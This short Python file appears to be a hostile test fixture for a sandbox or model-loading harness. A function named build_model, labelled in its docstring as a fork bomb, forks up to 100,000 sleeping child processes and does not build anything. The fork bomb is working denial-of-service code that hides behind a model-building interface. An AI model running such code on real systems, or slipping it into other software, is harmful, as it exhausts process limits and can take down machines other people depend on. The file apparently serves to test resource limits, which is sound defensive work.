"""Hostile: a fork bomb. Tiny children (sleep) so that only the process limit can stop it."""
import os

INPUT_SIZE = (28, 28)


def build_model():
    started = 0
    while started < 100_000:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.execv("/bin/sleep", ["sleep", "600"])
        started += 1
    raise RuntimeError(f"probe fork: stopped after {started} processes")
